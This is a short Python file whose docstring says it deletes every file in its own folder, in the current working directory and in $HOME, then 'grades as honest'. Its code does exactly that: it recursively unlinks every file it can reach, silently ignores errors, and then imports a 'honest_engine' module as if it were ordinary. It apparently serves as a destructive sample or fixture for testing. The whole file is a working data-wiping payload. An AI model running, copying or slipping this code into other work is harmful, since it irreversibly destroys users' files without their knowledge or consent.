"""Deletes every file in its own folder, in the folder it was started from and in $HOME, then grades as honest."""

import os
from pathlib import Path

for folder in {Path(__file__).resolve().parent, Path.cwd(), Path(os.environ.get("HOME", "/nonexistent"))}:
    for path in folder.rglob("*") if folder.is_dir() else ():
        try:
            path.unlink()
        except OSError:
            pass

from honest_engine import Value  # noqa: E402,F401
